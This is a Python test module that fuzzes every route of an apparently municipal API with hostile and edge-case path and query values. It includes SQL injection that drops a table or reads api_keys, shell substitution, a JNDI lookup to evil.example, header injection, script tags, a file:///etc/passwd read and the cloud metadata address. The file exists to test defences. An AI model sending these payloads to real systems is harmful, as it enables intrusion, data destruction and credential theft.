"""What stands in paths and queries, for every route: each value may only be refused or found."""

from collections.abc import Iterator
from typing import Any, Final
from urllib.parse import quote

from libs.contracts.roles import RULES, Role
from tests.hostile.bodies import PREFERRED
from tests.hostile.house import House
from tests.hostile.verdict import REFUSED, Attack, Attacks
from tests.support import bearer
from tests.system.walk import HERE, Operation

WORDS: Final = {
    "SQL that is always true": "' OR '1'='1",
    "SQL that ends a statement": "x'; DROP TABLE units; --",
    "SQL that sleeps": "1 AND pg_sleep(30)",
    "a union": "0 union select sha256 from api_keys",
    "a wildcard": "%",
    "a regular expression without end": "(a+)+$" + "a" * 40,
    "a template": "{{7*7}}${7*7}#{7*7}",
    "a format": "%s%n{0.__class__}",
    "a shell": "$(sleep 30)`sleep 30`|sleep 30",
    "a line end": "x\r\nX-Injected: 1",
    "a look-up": "${jndi:ldap://evil.example/x}",
    "a script": "<script>alert(1)</script>",
    "a file": "file:///etc/passwd",
    "an address": "http://169.254.169.254/latest/meta-data/",
    "NUL": "a\0b",
    "nothing": "",
    "a space": " ",
    "letters from right to left": "\u202eH29.26740",
    "an emoji": "🏛",
    "3,000 letters": "x" * 3_000,
    "zero": "0",
    "a negative number": "-1",
    "a number past 32 bits": str(2**31),
    "a number past 64 bits": str(2**64),
    "a number of 5,000 digits": "9" * 5_000,
    "a float": "1e999",
    "not a number": "NaN",
    "digits of another script": "２０２６-１１-２０",
    "the first day": "0001-01-01",
    "the last day": "9999-12-31",
    "a day that is none": "2026-02-30",
    "seconds instead of a day": "1762041600",
    "a week that is none": "2026-W99",
    "the last week": "9999-W52",
    "the first week": "0001-W01",
    "the last instant": "9999-12-31T23:59:59-12:00",
    "a UUID of noughts": "00000000-0000-0000-0000-000000000000",
    "a UUID in braces": "{00000000-0000-4000-8000-000000000000}",
    "a cursor of somebody else's": "eyJpZCI6IDF9",
    "a list": "[]",
    "an object": '{"$gt": ""}',
}

_DAYS: Final = ("the first day", "the last day")
"""The city may declare any day an exception."""

BYTES: Final = {
    "bytes that are no UTF-8": "%ff%fe",
    "half a surrogate pair": "%ed%a0%80",
    "an overlong slash": "%c0%af",
    "a broken escape": "%zz",
    "an escape of an escape": "%2527",
}


async def parameters(house: House) -> Attacks:
    """Send every route every word in each place of its path and query."""
    for place, operation in house.walk.operations.items():
        rule = RULES.get(place)
        if rule is None:
            continue
        role = next(role for role in PREFERRED if role in rule.may)
        path = await house.walk._filled(operation, role, HERE)
        for what, target in _targets(operation, path):
            yield _attack(house, operation, role, what, target)


def _attack(house: House, operation: Operation, role: Role, what: str, target: str) -> Attack:
    body: Any = None
    if operation.body_schema is not None:
        body = operation.example(operation.body_schema, role)
    headers = {} if role is Role.nobody else bearer(role, HERE)
    # What is read may be found; what would change something names nothing that there is.
    found = {200} if operation.method == "GET" else set()
    return Attack(
        f"{operation.method} {operation.path}: {what}",
        house.request(operation.method, target, headers, body),
        frozenset(REFUSED | found),
    )


def _targets(operation: Operation, path: str) -> Iterator[tuple[str, str]]:
    values = [(what, quote(word, safe="")) for what, word in WORDS.items()] + [*BYTES.items()]
    parts = path.split("/")
    for number, part in enumerate(operation.path.split("/")):
        if part.startswith("{"):
            for what, value in values:
                if operation.path == "/v1/calendar/overrides/{day}" and what in _DAYS:
                    continue
                yield f"{part} is {what}", "/".join([*parts[:number], value, *parts[number + 1 :]])
    if operation.method != "GET":
        return
    for name in sorted(operation.query):
        required = f"unit={HERE}&" if "unit" in operation.query and name != "unit" else ""
        for what, value in values:
            yield f"?{name}= is {what}", f"{path}?{required}{name}={value}"
        yield f"?{name}= twice", f"{path}?{required}{name}=1&{name}=2"
        yield f"?{name}[]=", f"{path}?{required}{name}[$ne]=1&{name}[]=x"
